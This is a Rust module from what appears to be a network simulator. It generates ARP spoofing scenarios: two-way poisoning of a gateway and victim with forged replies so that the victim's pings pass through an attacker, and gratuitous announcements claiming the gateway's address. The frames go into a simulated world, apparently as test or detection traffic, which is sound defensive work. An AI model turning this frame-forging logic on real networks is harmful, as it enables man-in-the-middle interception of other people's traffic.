//! ARP spoofing: a workstation claims the gateway's address towards a victim and the victim's
//! towards the gateway, or announces the gateway's address to all.

use super::target::{Attacker, repeat};
use super::{Launch, Stage};
use crate::actor::{MILLI, SECOND};
use crate::build::arp::{self, Side};
use crate::build::icmp;
use crate::world::{FIRST_STATION, GATEWAY};

/// Both directions poisoned by unasked replies every two seconds, 30 times; between them the
/// victim's pings pass through the attacker.
pub(super) fn reply(stage: &mut Stage) -> Vec<Launch> {
    let attacker = Attacker::inside(stage);
    let (gateway, victim) =
        (stage.world.hosts[GATEWAY].clone(), stage.world.hosts[FIRST_STATION].clone());
    let mac = attacker.peer.mac;
    let (victim_peer, gateway_peer) = (victim.peer(0), gateway.peer(0));
    let act = repeat(stage.rng, 30, 2 * SECOND, move |cx, _, index| {
        let (real_gateway, real_victim) =
            (Side { mac: gateway.mac, ip: gateway.v4 }, Side { mac: victim.mac, ip: victim.v4 });
        cx.emit(0, arp::reply(Side { mac, ip: gateway.v4 }, real_victim));
        cx.emit(MILLI, arp::reply(Side { mac, ip: victim.v4 }, real_gateway));
        let ping = |src_mac, dst_mac| {
            let mut frame =
                icmp::echo(&victim_peer, &gateway_peer, false, 0x77, index as u16, &[0x70; 32]);
            frame[..6].copy_from_slice(dst_mac);
            frame[6..12].copy_from_slice(src_mac);
            frame
        };
        cx.emit(500 * MILLI, ping(&victim.mac, &mac));
        cx.emit(501 * MILLI, ping(&mac, &gateway.mac));
    });
    let address = gateway_peer.ip;
    let note = format!("between {address} and {}", victim_peer.ip);
    vec![Launch::new(&attacker.peer.ip, &victim_peer.ip, note, act)]
}

/// The gateway's address announced to all every second, 30 times.
pub(super) fn gratuitous(stage: &mut Stage) -> Vec<Launch> {
    let attacker = Attacker::inside(stage);
    let gateway = stage.world.hosts[GATEWAY].clone();
    let claim = Side { mac: attacker.peer.mac, ip: gateway.v4 };
    let act = repeat(stage.rng, 30, SECOND, move |cx, _, _| cx.emit(0, arp::announcement(claim)));
    let note = "claims the gateway's address".to_owned();
    vec![Launch::new(&attacker.peer.ip, &gateway.peer(0).ip, note, act)]
}
